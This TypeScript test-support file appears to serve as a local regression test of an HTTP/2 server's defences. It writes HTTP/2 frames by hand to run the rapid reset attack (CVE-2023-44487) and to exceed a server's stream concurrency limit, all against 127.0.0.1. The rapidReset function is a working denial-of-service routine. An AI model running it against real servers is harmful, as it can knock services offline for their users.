/**
 * HTTP/2 clients written frame by frame (RFC 9113 4.1), for what node:http2's own client never
 * does: it never sends a stream it cancelled before it had an id, so it cannot attack with rapid
 * reset (CVE-2023-44487), and it queues streams past the server's concurrency limit instead of
 * sending them.
 */
import { connect, type TLSSocket } from 'node:tls';
import { testCertificate } from '../support/tls-cert.js';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
const FRAME_SETTINGS = 0x4;
const FRAME_GOAWAY = 0x7;
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const FLAG_ACK = 0x1;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK (RFC 7541): :method GET, :scheme https, :path / from the static table; :authority as a literal. */
function requestBlock(authority: string): Buffer {
  const name = Buffer.from(authority, 'latin1');
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, name.length]), name]);
}

/** A frame the server sent: its type, flags, stream id and payload. */
interface ReceivedFrame {
  type: number;
  flags: number;
  streamId: number;
  payload: Buffer;
}

/**
 * A TLS connection offering only h2 that acknowledges the server's SETTINGS (RFC 9113 6.5.3) and
 * hands every other frame to `onFrame`.
 */
function h2Connection(port: number, onFrame: (frame: ReceivedFrame) => void): TLSSocket {
  const socket = connect({ host: '127.0.0.1', port, servername: 'localhost', ca: testCertificate().cert, ALPNProtocols: ['h2'] });
  let received = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    received = Buffer.concat([received, chunk]);
    while (received.length >= 9) {
      const length = received.readUIntBE(0, 3);
      if (received.length < 9 + length) break;
      const type = received[3]!;
      const flags = received[4]!;
      if (type === FRAME_SETTINGS && (flags & FLAG_ACK) === 0) socket.write(frame(FRAME_SETTINGS, FLAG_ACK, 0, Buffer.alloc(0)));
      else onFrame({ type, flags, streamId: received.readUInt32BE(5) & 0x7fffffff, payload: received.subarray(9, 9 + length) });
      received = received.subarray(9 + length);
    }
  });
  return socket;
}

/**
 * Opens `streams` streams (GET /, END_STREAM) at once, ignoring the server's limit, and resolves
 * after `waitMs` with the RST_STREAM codes the server sent, by stream id.
 */
export function openStreamsAtOnce(port: number, streams: number, waitMs = 500): Promise<Map<number, number>> {
  return new Promise((resolve, reject) => {
    const resets = new Map<number, number>();
    const socket = h2Connection(port, ({ type, streamId, payload }) => {
      if (type === FRAME_RST_STREAM) resets.set(streamId, payload.readUInt32BE(0));
    });
    socket.on('error', reject);
    socket.once('secureConnect', () => {
      const block = requestBlock(`localhost:${port}`);
      const frames = [PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))];
      for (let i = 0; i < streams; i++) frames.push(frame(FRAME_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, 2 * i + 1, block));
      socket.write(Buffer.concat(frames));
      setTimeout(() => {
        socket.destroy();
        resolve(resets);
      }, waitMs);
    });
  });
}

export interface RapidResetResult {
  /** Streams opened and reset. */
  sent: number;
  /** The GOAWAY's error code, or null if none came. */
  goawayCode: number | null;
  /** Whether the server closed the connection. */
  closed: boolean;
}

/** Opens and resets `streams` streams in rounds of `perWrite`; resolves once the server closes, or after `deadlineMs`. */
export function rapidReset(port: number, streams: number, perWrite = 50, deadlineMs = 3000): Promise<RapidResetResult> {
  return new Promise((resolve, reject) => {
    let goawayCode: number | null = null;
    let sent = 0;
    const socket = h2Connection(port, ({ type, payload }) => {
      // RFC 9113 6.8: the last stream id, then the error code.
      if (type === FRAME_GOAWAY) goawayCode = payload.readUInt32BE(4);
    });
    const finish = (closed: boolean) => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ sent, goawayCode, closed });
    };
    const timer = setTimeout(() => finish(false), deadlineMs);
    socket.on('error', () => {});
    socket.on('close', () => finish(true));
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') {
        reject(new Error(`ALPN gave ${String(socket.alpnProtocol)}, not h2`));
        socket.destroy();
        return;
      }
      socket.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
      const block = requestBlock(`localhost:${port}`);
      const cancel = Buffer.alloc(4);
      cancel.writeUInt32BE(CANCEL);
      const sendRound = () => {
        if (socket.destroyed || sent >= streams) return;
        const frames: Buffer[] = [];
        for (let i = 0; i < perWrite && sent < streams; i++, sent++) {
          const id = 2 * sent + 1;
          frames.push(frame(FRAME_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, id, block), frame(FRAME_RST_STREAM, 0, id, cancel));
        }
        socket.write(Buffer.concat(frames), () => setImmediate(sendRound));
      };
      sendRound();
    });
  });
}
